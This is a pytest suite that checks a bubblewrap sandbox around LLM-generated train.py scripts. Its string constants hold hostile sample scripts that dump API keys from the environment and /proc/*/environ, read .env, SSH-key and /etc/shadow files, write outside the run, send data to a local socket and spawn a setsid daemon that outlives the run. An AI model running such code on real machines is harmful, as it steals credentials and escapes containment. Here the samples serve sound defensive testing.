"""Real attacks by train.py on a real run: secrets, files, the network, leftover processes; and one through main.py."""

from __future__ import annotations

import json
import os
import secrets
import socket
import threading
import time
from pathlib import Path

import pytest
from fakes import execute, make_runtime
from scripted import REPO, ScriptedBrain, run_main, runner_env

from adapters import sandbox
from adapters.sandbox import SANDBOX_UID, SandboxError

BWRAP_PROBLEM = sandbox.bwrap_problem()
needs_bwrap = pytest.mark.skipif(BWRAP_PROBLEM is not None, reason=f"bwrap cannot run here: {BWRAP_PROBLEM}")
BOTH_MODES = [pytest.param("bwrap", marks=needs_bwrap), "none"]

SECRETS = {
    "OPENROUTER_API_KEY": "sk-or-attack-1",
    "LLM_API_KEY": "sk-llm-attack-2",
    "AWS_SECRET_ACCESS_KEY": "aws-attack-3",
    "GITHUB_TOKEN": "ghp-attack-4",
    "DB_PASSWORD": "db-attack-5",
}

PRINT_ENVIRONMENT = """\
import os
for name, value in sorted(os.environ.items()):
    print(f"{name}={value}")
"""

# Under bwrap the script has its own PID namespace: the runner, whose environment holds the keys, is not in it.
LIST_PROCESSES = """\
import json, os
print("pids", json.dumps(sorted(int(p) for p in os.listdir("/proc") if p.isdigit())))
"""

FILE_ATTACK = """\
import os, sys
writes = {writes!r}
reads = {reads!r}
for path in writes:
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("DENIED", path, type(exc).__name__)
for path in reads:
    try:
        print("READ", path, open(path).read())
    except OSError as exc:
        print("NOREAD", path, type(exc).__name__)
print("HOME holds", os.listdir(os.path.expanduser("~")))
open("model.txt", "w").write("weights")
os.makedirs("checkpoints/best")
open("checkpoints/best/model.txt", "w").write("weights")
os.makedirs(os.path.join(os.environ["DATA_DIR"], "mnist"), exist_ok=True)
open(os.path.join(os.environ["DATA_DIR"], "mnist", "train.bin"), "w").write("data")
"""

CONNECT = """\
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as s:
        s.sendall(b"exfiltrated")
    print("CONNECTED")
except OSError as exc:
    print("REFUSED", type(exc).__name__, exc)
"""

# A daemon that escaped with setsid() keeps writing a heartbeat; the script itself hangs past the timeout.
DAEMON_THEN_HANG = """\
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            open(os.path.join(os.environ["DATA_DIR"], "heartbeat"), "a").write(".")
            time.sleep(0.05)
    os._exit(0)
print("daemon started", flush=True)
time.sleep(60)
"""


def experiment_with(tmp_path: Path, code: str) -> Path:
    """An experiment folder with the files a run must not touch, and run_1/train.py holding `code`."""
    root = tmp_path / "exp"
    (root / "run_1").mkdir(parents=True)
    (root / "IDEA.md").write_text("# Idea\n\ngoal: accuracy >= 0.9\n")
    (root / "tasks.json").write_text('{"tasks": []}\n')
    (root / ".env").write_text("OPENROUTER_API_KEY=sk-or-in-dotenv\n")
    (root / "run_1" / "train.py").write_text(code)
    return root


def run(root: Path, **settings):
    """Execute run 1 of `root` as the runner would; returns its record and log."""
    runtime, events = make_runtime(**settings)
    record = execute({"experiment_dir": str(root), "run_count": 0}, runtime)["latest_run"]
    return record, (root / "run_1" / "output.log").read_text()


def every_file(root: Path) -> dict[Path, bytes]:
    return {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def secrets_in_environment(monkeypatch):
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)


@pytest.mark.parametrize("mode", BOTH_MODES)
def test_no_secret_in_the_environment_reaches_the_log(mode, tmp_path: Path, monkeypatch, secrets_in_environment):
    monkeypatch.setenv("MY_DATASET_TOKEN", "passed-on-purpose")
    root = experiment_with(tmp_path, PRINT_ENVIRONMENT)

    record, log = run(root, sandbox=mode, sandbox_env=("MY_DATASET_TOKEN",))

    assert record["status"] == "ok", log
    for value in SECRETS.values():
        assert value not in log
        assert not any(value.encode() in content for content in every_file(root).values())
    assert "MY_DATASET_TOKEN=passed-on-purpose" in log
    assert f"DATA_DIR={root / 'data'}" in log
    assert "HOME=" in log and f"HOME={Path.home()}\n" not in log


@needs_bwrap
def test_the_script_sees_only_its_own_processes(tmp_path: Path):
    record, log = run(experiment_with(tmp_path, LIST_PROCESSES), sandbox="bwrap")
    assert record["status"] == "ok", log
    pids = json.loads(log.split("pids ", 1)[1])
    assert pids == [1, 2], log  # bwrap's init and the script: none of the machine's other processes


@pytest.fixture
def bait(tmp_path: Path):
    """Files a script must not write or read: a fake SSH key in the real home, and a probe in the runner's source tree."""
    token = secrets.token_hex(4)
    home_dir = Path.home() / f".sandbox-test-{token}"
    home_dir.mkdir()
    key = home_dir / "id_rsa"
    key.write_text("-----BEGIN FAKE KEY-----\n")
    key.chmod(0o600)
    probe = REPO / f".sandbox-probe-{token}"
    probe.write_text("runner source\n")
    try:
        yield {"key": key, "probe": probe, "new_in_home": Path.home() / f".sandbox-attack-{token}", "new_in_etc": Path(f"/etc/sandbox-attack-{token}")}
    finally:
        for path in (key, probe, Path.home() / f".sandbox-attack-{token}", Path(f"/etc/sandbox-attack-{token}")):
            path.unlink(missing_ok=True)
        home_dir.rmdir()


@needs_bwrap
def test_writes_outside_the_run_are_denied_and_secret_files_unreadable(tmp_path: Path, bait):
    root = experiment_with(tmp_path / "a", "")
    writes = [root / "tasks.json", root / "IDEA.md", root / "PLAN.md", bait["key"], bait["new_in_home"], bait["new_in_etc"], bait["probe"], REPO / "main.py"]
    reads = [bait["key"], root / ".env", "/etc/shadow"]
    (root / "run_1" / "train.py").write_text(FILE_ATTACK.format(writes=[str(p) for p in writes], reads=[str(p) for p in reads]))
    before = {p: p.read_bytes() for p in writes if p.exists()}

    record, log = run(root, sandbox="bwrap")

    assert record["status"] == "ok", log
    for path in writes:
        assert f"DENIED {path} " in log, log
    for path in reads:
        assert f"NOREAD {path} " in log, log
    assert {p: p.read_bytes() for p in writes if p.exists()} == before
    assert not bait["new_in_home"].exists() and not bait["new_in_etc"].exists() and not (root / "PLAN.md").exists()
    assert "HOME holds []" in log
    assert "FAKE KEY" not in log and "sk-or-in-dotenv" not in log


@pytest.mark.parametrize("mode", BOTH_MODES)
def test_writes_to_the_run_and_the_data_cache_succeed_and_belong_to_the_runner(mode, tmp_path: Path):
    root = experiment_with(tmp_path, FILE_ATTACK.format(writes=[], reads=[]))

    record, log = run(root, sandbox=mode)

    assert record["status"] == "ok", log
    written = [root / "run_1" / "model.txt", root / "run_1" / "checkpoints" / "best" / "model.txt", root / "data" / "mnist" / "train.bin"]
    for path in written + [root / "run_1", root / "run_1" / "checkpoints", root / "data", root / "data" / "mnist"]:
        assert (path.stat().st_uid, path.stat().st_gid) == (os.geteuid(), os.getegid()), path
    for path in written:
        assert path.read_text() in ("weights", "data")
        path.unlink()
    assert not [p for p in root.rglob("*") if p.lstat().st_uid == SANDBOX_UID], "everything was given back"


@pytest.fixture
def tcp_server():
    """A server on 127.0.0.1 that records what each connection sends."""
    server = socket.create_server(("127.0.0.1", 0))
    received: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                received.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    server.close()


@needs_bwrap
def test_no_network_refuses_a_connection_to_loopback(tmp_path: Path, tcp_server):
    port, received = tcp_server
    record, log = run(experiment_with(tmp_path, CONNECT.format(port=port)), sandbox="bwrap", no_network=True)
    assert record["status"] == "ok", log
    assert "REFUSED" in log and "CONNECTED" not in log
    assert received == []


@needs_bwrap
def test_network_stays_on_by_default(tmp_path: Path, tcp_server):
    port, received = tcp_server
    record, log = run(experiment_with(tmp_path, CONNECT.format(port=port)), sandbox="bwrap")
    assert "CONNECTED" in log, log
    assert received == [b"exfiltrated"]


def test_no_network_without_the_sandbox_is_refused_before_anything_runs(tmp_path: Path, tcp_server):
    root = experiment_with(tmp_path, CONNECT.format(port=tcp_server[0]))
    runtime, events = make_runtime(sandbox="none", no_network=True)
    with pytest.raises(SandboxError, match="--no-network.*needs the bwrap sandbox"):
        execute({"experiment_dir": str(root), "run_count": 0}, runtime)
    assert not (root / "run_1" / "output.log").exists()
    assert tcp_server[1] == []


@pytest.mark.parametrize("mode", BOTH_MODES)
def test_a_setsid_daemon_dies_with_the_run_on_timeout(mode, tmp_path: Path):
    root = experiment_with(tmp_path, DAEMON_THEN_HANG)
    record, log = run(root, sandbox=mode, timeout_seconds=2)
    assert record["status"] == "timeout", log
    heartbeat = root / "data" / "heartbeat"
    assert heartbeat.exists(), "the daemon ran"
    size = heartbeat.stat().st_size
    time.sleep(0.5)
    assert heartbeat.stat().st_size == size, "the daemon still writes after the run ended"


TRAIN_STEALS_AND_PHONES_HOME = """\
import json, os, socket
print("openrouter key:", os.environ.get("OPENROUTER_API_KEY"))
print("llm key:", os.environ.get("LLM_API_KEY"))
for pid in filter(str.isdigit, os.listdir("/proc")):  # the runner's environment holds the keys
    try:
        print("environ of", pid, open(f"/proc/{pid}/environ", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
    except OSError as exc:
        print("cannot read environ of", pid, type(exc).__name__)
for path in ("../.env", os.path.expanduser("~/.bashrc")):
    try:
        print("read", path, open(path).read())
    except OSError as exc:
        print("cannot read", path, type(exc).__name__)
host, port = os.environ["LLM_BASE_URL"].split("//")[1].split("/")[0].split(":")
try:
    socket.create_connection((host, int(port)), timeout=5).close()
    print("phoned home")
except OSError as exc:
    print("no network:", type(exc).__name__)
json.dump({"accuracy": 0.5}, open("metrics.json", "w"))
"""


@needs_bwrap
def test_end_to_end_with_bwrap_and_no_network(experiment: Path, llm_server):
    brain = ScriptedBrain(codes=[TRAIN_STEALS_AND_PHONES_HOME])
    server = llm_server(brain)
    key = f"sk-e2e-{secrets.token_hex(8)}"
    (experiment / ".env").write_text("DB_PASSWORD=dotenv-secret-e2e\n")
    env = runner_env(server.base_url, LLM_API_KEY=key, SANDBOX_ENV="LLM_BASE_URL")

    result = run_main(["-d", str(experiment), "-r", "1", "--sandbox", "bwrap", "--no-network"], env)

    assert result.returncode == 0, result.stdout + result.stderr
    assert brain.stages == ["initialize", "codegen", "analyze", "report"]
    log = (experiment / "run_1" / "output.log").read_text()
    assert "openrouter key: None" in log and "llm key: None" in log
    assert "cannot read ../.env" in log and "no network:" in log and "phoned home" not in log
    for path, content in every_file(experiment).items():
        assert key.encode() not in content, path
        assert b"dotenv-secret-e2e" not in content or path.name == ".env", path
    assert len(server.requests) == 4  # the LLM calls, nothing from the script
